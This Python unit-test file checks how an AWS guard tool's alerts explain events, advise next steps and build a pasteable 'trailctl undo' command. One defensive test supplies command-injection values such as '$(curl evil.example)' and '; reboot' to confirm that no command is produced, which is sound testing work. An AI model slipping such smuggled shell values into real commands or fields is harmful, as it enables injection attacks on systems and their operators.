"""What an alert says besides what happened: why it matters, what to do, how to take it back."""

from __future__ import annotations

import ast
import json
import re
import shlex
from dataclasses import replace
from typing import Any

import pytest
from reactor import entries
from reactor.actions import Action, Alert, Outcome, Undo
from reactor.advice import advised
from reactor.alerts import chat, publication, undo_command, with_chat
from reactor.entries import of_entry
from reactor.event import read_event
from reactor.places import Place

from tests.harness.local_aws import REPOSITORY
from tests.unit.reactor.world import ACCOUNT, REGION, envelope, record
from trailctl.cli import command_line

pytestmark = pytest.mark.unit

EVENT = "1a8e25cb-458c-4ec3-89db-50732e95757f"
GROUP = "/aws/lambda/ec2-guard"
HERE = Place(ACCOUNT, REGION)
STOP = Action(
    "ec2",
    "stop_instances",
    {},
    ("i-1",),
    "stop i-1",
    "stopped i-1",
    Undo("ec2", "start_instances", {}),
)


def command(
    event_id: str = EVENT, action: Action = STOP, here: Place = HERE, group: str = GROUP
) -> str:
    event = read_event(envelope(record(eventID=event_id)))
    return undo_command(event, [action], here.account, here.region, group)


def given(line: str) -> Any:
    """What trailctl makes of a line that is pasted into a shell."""
    words = shlex.split(line)
    while "=" in words[0]:
        words.pop(0)
    assert words.pop(0) == "trailctl"
    return command_line().parse_args(words)


def test_an_alert_says_why_what_to_do_and_how_to_take_it_back() -> None:
    alert = Alert("high", "s", "eve did it", why="It costs.", runbook="Ask her.")
    event = read_event(envelope(record()))
    told = publication(alert, event, [Outcome(STOP, "taken")], "g", "enforce", undo=command())
    text = told["Message"]
    assert "Why it matters: It costs.\nWhat to do:     Ask her.\n" in text
    assert text.endswith(
        f"\nTo take it back:\ntrailctl undo {EVENT} --log-group {GROUP} --region {REGION}\n"
    )


def test_the_command_is_one_that_trailctl_takes() -> None:
    options = given(command())
    assert (options.record, options.log_group, options.region) == (EVENT, GROUP, REGION)
    assert not options.allow
    own = Action("ssm", "put", {}, ("/a",), "s", "d", Undo("ssm", "delete_parameter", {}))
    assert given(command(action=own)).allow == [("ssm", "delete_parameter")]


def test_the_command_names_another_region_and_another_account() -> None:
    elsewhere = Place("999999999999", "us-east-1")
    line, note = command(here=elsewhere).splitlines()
    assert line.startswith(f"AWS_REGION={REGION} trailctl undo ")
    assert (given(line).region, given(line).log_profile) == ("us-east-1", "PROFILE")
    assert note == f"(as {ACCOUNT}; PROFILE is a profile of yours for 999999999999)"


@pytest.mark.parametrize(
    "changes",
    [
        {"event_id": "$(curl evil.example)"},
        {"event_id": f"{EVENT}; reboot"},
        {"event_id": f"{EVENT}\n"},
        {"event_id": EVENT.upper()},
        {"group": ""},
        {"group": "/aws/lambda/a b"},
        {"group": "--yes"},
        {"here": Place(ACCOUNT, "eu-west-1;x")},
        {"action": Action("ec2", "stop", {}, (), "s", "d", Undo("ec2", "x;y", {}))},
        {"action": Action("ec2", "stop", {}, (), "s", "d")},
    ],
)
def test_what_is_no_id_or_name_makes_no_command(changes: dict[str, Any]) -> None:
    assert command(**changes) == ""


def test_a_chat_gets_what_its_service_shows() -> None:
    """https://docs.aws.amazon.com/chatbot/latest/adminguide/custom-notifs.html"""
    alert = Alert("high", "s" * 300, "<!here> did it", (("A", "*b*"),), why="W.", runbook="R.")
    event = read_event(envelope(record(userAgent="x" * 100_000)))
    args: tuple[Any, ...] = (
        *(alert, event, [Outcome(STOP, "taken")], "g", "enforce", (), command()),
    )
    told = json.loads(chat(*args))
    assert (told["version"], told["source"]) == ("1.0", "custom")
    content = told["content"]
    assert content["textType"] == "client-markdown"
    assert content["title"].startswith("[high] sss")
    assert "<!here>" not in content["description"]
    assert "*b*" not in content["description"]
    assert content["nextSteps"] == ["R.", f"To take it back: {command()}"]
    plain = publication(*args)
    sent = with_chat({**plain, "Message": plain["Message"] + "\U0001f600" * 60_000}, chat(*args))
    assert sent["MessageStructure"] == "json"
    assert len(sent["Message"]) < 262_144
    both = json.loads(sent["Message"])
    assert both["default"].startswith(plain["Message"][:100])
    assert json.loads(both["https"]) == told


def test_guards_say_what_the_catalogue_says() -> None:
    for id_ in entries._ENTRIES:
        entry = json.loads(
            (REPOSITORY / f"modules/detections/catalogue/{id_}.json").read_text("utf-8")
        )
        found = of_entry(id_)
        assert found.pop("afterwards").endswith(".")
        assert found == {
            "detection": id_,
            "why": entry["why"],
            "runbook": re.sub("; `[^`]*` (does|contains) [^.]*by itself", "", entry["runbook"]),
            "attack": tuple(entry["attack"]),
        }


TAG = replace(STOP, operation="create_tags", summary="tag i-1", done="tagged i-1", undo=None)
NOT_DONE = "The reaction left it as it is"
PART = "The reaction did only a part of it"


@pytest.mark.parametrize(
    ("outcomes", "before", "told"),
    [
        ([], "", "Ask; stop it."),
        ([Outcome(TAG, "taken")], "", "Ask; stop it."),
        ([Outcome(TAG, "taken"), Outcome(STOP, "taken")], "", "Ask; start it."),
        ([Outcome(TAG, "failed"), Outcome(STOP, "taken")], "", "Ask; start it."),
        ([], "corrected", "Ask; start it."),
        ([Outcome(STOP, "planned", mode="notify")], "", f"{NOT_DONE}. Ask; stop it."),
        ([Outcome(STOP, "planned", mode="dry_run")], "", f"{NOT_DONE}. Ask; stop it."),
        ([Outcome(STOP, "exempt")], "", f"{NOT_DONE}. Ask; stop it."),
        ([Outcome(STOP, "refused")], "", f"{NOT_DONE}. Ask; stop it."),
        (
            [Outcome(STOP, "planned", held=True)],
            "",
            f"{NOT_DONE}, and takes it up when its budget allows that. Ask; stop it.",
        ),
        (
            [Outcome(STOP, "failed")],
            "",
            f"{NOT_DONE}, tries again, and tells if that succeeds. Ask; stop it.",
        ),
        (
            [Outcome(STOP, "taken"), Outcome(STOP, "failed")],
            "",
            f"{PART}, tries again, and tells if that succeeds. Ask; stop it.",
        ),
        ([Outcome(STOP, "taken"), Outcome(STOP, "exempt")], "", f"{PART}. Ask; stop it."),
    ],
)
def test_advice_is_by_what_was_done(outcomes: list[Outcome], before: str, told: str) -> None:
    alert = Alert("high", "s", "h", runbook="Ask; stop it.", afterwards="Ask; start it.")
    assert advised(alert, outcomes, before).runbook == told
    assert advised(replace(alert, afterwards=""), [Outcome(STOP, "taken")]).runbook == alert.runbook
    assert advised(replace(alert, runbook=""), outcomes, before).runbook == ""


def test_no_advice_after_an_action_tells_to_take_it_again() -> None:
    """What a guard does by itself is no advice once it is done."""
    for id_ in entries._ENTRIES:
        told = of_entry(id_)
        assert not re.search(r"(?i)\bstop|\bremove|put the trail back", told["afterwards"])
        assert told["afterwards"] != told["runbook"]
        assert "` " not in f"{told['runbook']} {told['afterwards']}", id_


def test_every_alert_of_a_guard_says_why() -> None:
    """But for those that the caller of `notify` words."""
    for path in sorted((REPOSITORY / "lambda_src/reactor/reactions").glob("*_*.py")):
        if path.name.startswith("__"):
            continue
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "Alert":
                assert any(word.arg is None for word in node.keywords), f"{path.name}:{node.lineno}"
